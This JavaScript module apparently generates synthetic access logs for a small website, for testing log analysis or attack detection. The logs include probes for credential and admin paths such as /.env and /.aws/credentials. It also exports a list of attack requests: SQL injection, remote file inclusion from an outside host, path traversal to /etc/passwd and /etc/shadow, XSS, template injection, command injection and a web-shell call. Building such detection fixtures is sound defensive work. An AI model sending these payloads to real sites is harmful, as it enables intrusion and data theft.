/**
 * A small site with a long tail: most pages are read now and then, hardly one has parameters, and probes for what is
 * not there come all day, each from another address.
 */
import { Draws } from "#host/demo/draws.js";
import { accessTime } from "./ordinaryLogs.mjs";

const syllables = ["ba", "ren", "to", "lis", "mor", "ka", "vin", "del", "su", "por", "han", "ge"];
const probes = [
  [
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-content/plugins/a/readme.txt",
    "/phpmyadmin/",
    "/admin.php",
    "/.env",
    "/.git/HEAD",
  ],
  ["/.aws/credentials", "/owa/auth.owa", "/boaform/admin", "/cgi-bin/luci", "/HNAP1/", "/actuator/env", "/solr/admin"],
  ["/backup.zip", "/db.sql", "/server-status", "/console", "/vendor/phpunit/eval.php", "/setup.cgi", "/manager/html"],
].flat();
const agents = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0", "Mozilla/5.0 (Windows NT 10.0) Chrome/129.0"];
const start = Date.UTC(2026, 10, 9, 0, 0, 0) / 1000;

/** @param {Draws} draws @param {number} parts */
const name = (draws, parts) => Array.from({ length: parts }, () => draws.pick(syllables)).join("");

export class SmallSite {
  /** @param {number} seed */
  constructor(seed) {
    this.draws = new Draws(seed);
    this.seconds = start;
    this.pages = Array.from({ length: 1500 }, () => `/${name(this.draws, 3)}-${name(this.draws, 3)}`);
    this.tags = Array.from({ length: 60 }, () => `/blog/tags/${name(this.draws, 2)}`);
  }

  /** @param {number} count */
  lines(count) {
    return Array.from({ length: count }, () => this.line());
  }

  line() {
    const { draws } = this;
    this.seconds += draws.integer(5, 45);
    const client = `${draws.integer(11, 223)}.${draws.integer(0, 255)}.${draws.integer(0, 255)}.${draws.integer(1, 254)}`;
    const kind = draws.next();
    if (kind < 0.0015) return this.access(client, draws.pick(probes), 404, 196);
    if (kind < 0.25) return this.access(client, "/", 200, draws.integer(17_000, 18_000));
    if (kind < 0.33) return this.access(client, "/style.css", 200, 4120);
    if (kind < 0.36) return this.access(client, `${draws.pick(this.tags)}?page=${draws.integer(1, 9)}`, 200, 9000);
    if (kind < 0.44) return this.access(client, draws.pick(this.tags), 200, 9000);
    if (kind < 0.47) return this.access(client, `/${name(draws, 3)}-${name(draws, 2)}`, 404, 196);
    // some pages are read by many, most by few
    const page = Math.floor(this.pages.length * draws.next() ** 3);
    return this.access(client, this.pages[page], 200, draws.integer(9000, 20_000));
  }

  /** @param {string} client @param {string} target @param {number} status @param {number} bytes */
  access(client, target, status, bytes) {
    const time = accessTime(this.seconds);
    return `${client} - - [${time}] "GET ${target} HTTP/1.1" ${status} ${bytes} "-" "${this.draws.pick(agents)}"`;
  }
}

/** Attacks on it, with the status that each gets. @type {[string, number][]} */
export const smallSiteAttacks = [
  ["/?ref=1%27%20AND%20%271%27%3D%271", 200],
  ["/blog/tags/PAGE?page=2%20UNION%20SELECT%20name,pass%20FROM%20users--", 200],
  ["/index.php?file=http://203.0.113.66/x.txt", 404],
  ["/view.php?f=../../../../../etc/passwd", 404],
  ["/files/..%2f..%2f..%2fetc%2fshadow", 400],
  ["/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", 200],
  ["/?name=%7B%7B7*7%7D%7D", 200],
  ["/cgi-bin/ping?host=127.0.0.1%3Bid", 404],
  ["/uploads/up.php?c=id", 200],
  ["/.git/HEAD", 200],
];
